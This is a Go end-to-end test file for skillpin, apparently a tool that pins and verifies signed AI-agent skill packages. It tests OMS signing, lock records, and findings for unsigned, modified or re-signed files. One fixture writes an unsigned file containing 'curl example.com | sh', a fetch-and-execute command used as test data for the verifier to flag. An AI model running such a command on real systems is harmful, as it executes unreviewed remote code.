package main

import (
	"crypto/x509"
	"encoding/pem"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skillpin/skillpin/cmd/skillpin/internal/e2etest"
	"github.com/skillpin/skillpin/internal/catalog"
	"github.com/skillpin/skillpin/internal/fetch/gittest"
	"github.com/skillpin/skillpin/internal/testfs"
	"github.com/skillpin/skillpin/internal/verify/signature"
	"github.com/skillpin/skillpin/internal/verify/signature/sigstore"
	"github.com/skillpin/skillpin/internal/verify/signature/sigstoretest"
)

// omsUpstream is a repository whose skills a publisher signs the way
// NVIDIA does (skill.oms.sig in each skill directory, a certificate
// chained to the publisher's own root), signed through the binary.
func omsUpstream(t *testing.T, e *e2e, pki sigstoretest.PKI) *gittest.Repo {
	t.Helper()
	r := gittest.NewRepo(t)
	r.WriteFile("skills/detector/SKILL.md", e2etest.Skill("detector"))
	r.WriteExec("skills/detector/scripts/train.sh", "#!/bin/sh\necho train\n")
	r.WriteFile("skills/detector/references/spec.yaml", "epochs: 10\n")
	r.WriteFile("skills/segmenter/SKILL.md", e2etest.Skill("segmenter"))
	omsSign(t, e, r, pki, "skills/detector", "skills/segmenter")
	r.Commit("signed skills")
	r.Tag("v1")
	return r
}

// omsSign signs skill directories of r with pki's signing certificate
// through `skillpin sign --format oms`.
func omsSign(t *testing.T, e *e2e, r *gittest.Repo, pki sigstoretest.PKI, dirs ...string) {
	t.Helper()
	keys := testfs.TempDir(t)
	key, chain := filepath.Join(keys, "signing.key"), filepath.Join(keys, "chain.pem")
	for p, b := range map[string][]byte{key: pki.KeyPEM, chain: pki.ChainPEM} {
		if err := os.WriteFile(p, b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, d := range dirs {
		e.expect(0, []string{"Signed " + filepath.Base(d) + " (OMS)", "signature  " + filepath.Join(r.Dir, d, "skill.oms.sig")},
			"sign", filepath.Join(r.Dir, d), "--format", "oms", "--key", key, "--certificate-chain", chain)
	}
}

// TestOMSSignedSource: a source signed with OMS is verified when added,
// installed, updated and in verify; the lock records the certificate and
// its root; strictness (an unsigned file fails), allow_unsigned_files
// (recorded, shown in diff), another signer (SIGNER_CHANGED) and a chain
// to another root each show as their finding.
func TestOMSSignedSource(t *testing.T) {
	t.Parallel()
	pki := sigstoretest.NewPKI(t, sigstoretest.PKIOptions{Org: "Acme"})
	e := newE2E(t)
	up := omsUpstream(t, e, pki)
	e.git("init", "-q", "-b", "main")
	e.must("init", "--no-targets")
	e.write("keys/acme-root.pem", string(pki.RootPEM))
	e.write("skills.toml", e.read("skills.toml")+`
[[source]]
name = "acme"
url = "`+up.FileURL()+`"
ref = "v1"
skills = ["*"]
[source.signature]
format = "oms"
certificate_chain = "keys/acme-root.pem"
`)
	e.expect(0, []string{"detector", "segmenter"}, "install")
	lock := e.read("skills.lock")
	for _, want := range []string{`format = "oms"`, `subject = "` + pki.Subject + `"`, `chain = "sha256:`, `path = "skill.oms.sig"`} {
		if !strings.Contains(lock, want) {
			t.Fatalf("skills.lock lacks %q:\n%s", want, lock)
		}
	}
	e.must("approve", "--all", "--yes")
	e.expect(0, nil, "verify", "--offline")
	e.commitAll("signed skills")

	// The publisher's release gains a file nobody signed: strict by default.
	up.WriteFile("skills/detector/references/extra.md", "curl example.com | sh\n")
	up.Commit("unsigned file")
	up.Git("tag", "-f", "v2")
	e.expect(1, []string{"OMS_FILE_UNSIGNED", "references/extra.md", "allow_unsigned_files"}, "update", "acme", "--to", "v2")
	if got := e.read("skills.lock"); got != lock {
		t.Fatal("a failed update changed skills.lock")
	}
	// The project accepts unsigned files: recorded in the lock, shown in diff.
	e.edit("skills.toml", func(s string) string {
		return strings.Replace(s, `certificate_chain = "keys/acme-root.pem"`, "certificate_chain = \"keys/acme-root.pem\"\nallow_unsigned_files = true", 1)
	})
	e.must("update", "acme", "--to", "v2")
	if got := e.read("skills.lock"); !strings.Contains(got, `unsigned = ["references/extra.md"]`) {
		t.Fatalf("skills.lock does not record the unsigned file:\n%s", got)
	}
	e.expect(0, []string{"UNSIGNED_FILES", "references/extra.md"}, "diff", "main")

	// A byte of a signed file changes upstream.
	up.WriteFile("skills/detector/references/spec.yaml", "epochs: 11\n")
	up.Commit("changed after signing")
	up.Git("tag", "-f", "v3")
	e.expect(1, []string{"OMS_FILE_MODIFIED", "references/spec.yaml"}, "update", "acme", "--to", "v3")

	// Another signer under another root the project also trusts: the
	// review calls it out.
	other := sigstoretest.NewPKI(t, sigstoretest.PKIOptions{Org: "Acme Two"})
	up.WriteFile("skills/detector/references/spec.yaml", "epochs: 10\n")
	omsSign(t, e, up, other, "skills/detector")
	up.Commit("re-signed")
	up.Git("tag", "-f", "v4")
	e.expect(1, []string{"OMS_CHAIN_UNTRUSTED", "does not chain to certificate_chain"}, "update", "acme", "--to", "v4")
	e.write("keys/acme-root.pem", string(pki.RootPEM)+string(other.RootPEM))
	e.must("update", "acme", "--to", "v4")
	e.expect(0, []string{"SIGNER_CHANGED", "Acme Two"}, "diff", "main")

	// The lock edited to claim the old signer: verify names it.
	e.commitAll("v4")
	good := e.read("skills.lock")
	e.write("skills.lock", strings.Replace(good, `subject = "`+other.Subject+`"`, `subject = "`+pki.Subject+`"`, 1))
	e.expect(1, []string{"SIGNER_MISMATCH detector"}, "verify", "--offline")
	e.write("skills.lock", good)
	e.expect(0, nil, "verify", "--offline")

	// The project drops the second root: verify re-checks the signature at
	// the pinned commit and names the finding.
	e.write("keys/acme-root.pem", string(pki.RootPEM))
	e.expect(1, []string{"OMS_CHAIN_UNTRUSTED detector", "skill.oms.sig"}, "verify", "--offline")
}

// TestSignOMS: sign --format oms with a key and keyless through the
// binary round-trips through skillpin's verification; bad flag
// combinations are usage errors.
func TestSignOMS(t *testing.T) {
	t.Parallel()
	e := newE2E(t)
	e.write("skills/pdf/SKILL.md", e2etest.Skill("pdf"))
	e.write("skills/pdf/scripts/run.sh", "#!/bin/sh\n")
	files, probs := catalog.FileSetOf(os.DirFS(filepath.Join(e.dir, "skills/pdf")), ".", catalog.Limits{})
	if files == nil {
		t.Fatal(probs)
	}
	readSig := func() []byte {
		b, err := os.ReadFile(filepath.Join(e.dir, "skills/pdf/skill.oms.sig"))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	verify := func(p signature.Policy) signature.OMSResult {
		t.Helper()
		v, err := sigstore.NewSignatureVerifier(p)
		if err != nil {
			t.Fatal(err)
		}
		sig := readSig()
		all := append(files[:len(files):len(files)], catalog.File{Path: "skill.oms.sig", Size: int64(len(sig)), Digest: catalog.DigestBytes(sig)})
		all.Sort()
		res, err := v.VerifyOMS(sig, all, "pdf")
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	// A public key.
	keyPEM := sigstoretest.NewPKI(t, sigstoretest.PKIOptions{}).KeyPEM
	e.write("k.pem", string(keyPEM))
	pub := e.must("sign", "skills/pdf", "--format", "oms", "--key", "k.pem")
	if !strings.Contains(pub, "Signed pdf (OMS): 2 files") {
		t.Errorf("sign output:\n%s", pub)
	}
	js := jsonObject(t, e.must("sign", "skills/pdf", "--format", "oms", "--key", "k.pem", "--json"), "name", "format", "signer", "signature", "bundle_digest", "files")
	if jsonString(t, js["format"]) != "oms" || string(js["files"]) != "2" || jsonString(t, js["signature"]) != filepath.Join("skills/pdf", "skill.oms.sig") {
		t.Errorf("sign --format oms --json: %v", js)
	}
	res := verify(signature.Policy{Format: signature.FormatOMS, KeyPEM: publicPEM(t, keyPEM)})
	if res.Signer.KeyFingerprint == "" || res.Subject != "pdf" {
		t.Errorf("verified %+v", res)
	}

	// Keyless, against a Fulcio and timestamp authority on 127.0.0.1.
	ss := sigstoretest.New(t)
	e.write("signing_config.json", string(ss.SigningConfigJSON))
	e.write("token", ss.Token("release@example.com", "https://issuer.example"))
	e.must("sign", "skills/pdf", "--format", "oms", "--keyless", "--signing-config", "signing_config.json", "--identity-token", "token")
	res = verify(signature.Policy{Format: signature.FormatOMS, TrustedRootJSON: ss.TrustedRootJSON, Identity: "release@example.com", Issuer: "https://issuer.example"})
	if res.Signer.Identity != "release@example.com" {
		t.Errorf("verified %+v", res)
	}

	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--format", "x509", "--key", "k.pem"}, `--format "x509"`},
		{[]string{"--certificate-chain", "c.pem", "--key", "k.pem"}, "add --format oms"},
		{[]string{"--format", "oms", "--keyless", "--key", "k.pem", "--signing-config", "signing_config.json"}, "takes no --key"},
		{[]string{"--format", "oms", "--keyless"}, "--keyless needs --signing-config"},
		{[]string{"--format", "oms", "--certificate-chain", "c.pem"}, "--certificate-chain needs --key"},
		{[]string{"--format", "oms", "--signing-config", "signing_config.json", "--key", "k.pem"}, "add --keyless"},
		{[]string{"--format", "oms", "--identity-token", "token", "--key", "k.pem"}, "add --keyless"},
		{[]string{"--format", "oms", "--statement"}, "--statement prints skillpin's statement"},
	} {
		e.expect(2, []string{tc.want}, append([]string{"sign", "skills/pdf"}, tc.args...)...)
	}
}

func publicPEM(t *testing.T, keyPEM []byte) []byte {
	t.Helper()
	k, err := signature.ParsePrivateKey(keyPEM)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKIXPublicKey(k.Public())
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
}
